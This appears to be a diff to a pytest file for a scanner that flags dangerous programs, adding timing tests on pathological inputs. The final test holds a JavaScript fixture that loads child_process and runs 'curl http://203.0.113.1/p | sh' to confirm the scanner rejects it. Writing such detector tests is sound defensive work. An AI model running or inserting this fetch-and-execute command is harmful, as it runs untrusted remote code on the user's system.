@@ -1,5 +1,6 @@
 """Behaviours x languages: what nobody should run unread is refused in whatever language it is written; what looks like it is not."""
 
+import time
 from pathlib import Path
 
 import pytest
@@ -39,10 +40,30 @@ def test_an_honest_program_is_admitted(name: str, tmp_path: Path) -> None:
         "x.y(" * 20_000,
         "f(a => " * 10_000,
         "`${a}`" * 10_000,
+        '"' + '\\"' * 20_000,
+        "a=a+a=" * 20_000,
+        "eval " * 20_000,
     ],
 )
 def test_no_program_takes_long_or_breaks_the_reader(language: str, text: str) -> None:
     known = next(each for each in LANGUAGES.values() if each.id == language)
+    start = time.process_time()
     words, whole = words_of(text, known)
     assert whole
-    assert list(_Program(words, known, text).judged()) is not None
+    list(_Program(words, known, text).judged())
+    assert time.process_time() - start < 10
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["x = 1\n" + 'x = f"<img src={x}>"\n' * 8_000, "from openai import OpenAI\n" + "OpenAI(base_url=x)\n" * 8_000],
+)
+def test_no_python_source_is_walked_again_for_each_call(text: str, tmp_path: Path) -> None:
+    start = time.process_time()
+    decided(tmp_path, "a.py", text)
+    assert time.process_time() - start < 10
+
+
+def test_a_module_may_stand_in_the_next_line(tmp_path: Path) -> None:
+    text = "const zz =\n  require('child_process')\nzz.exec('curl http://203.0.113.1/p | sh')\n"
+    assert decided(tmp_path, "a.js", text) == "reject"
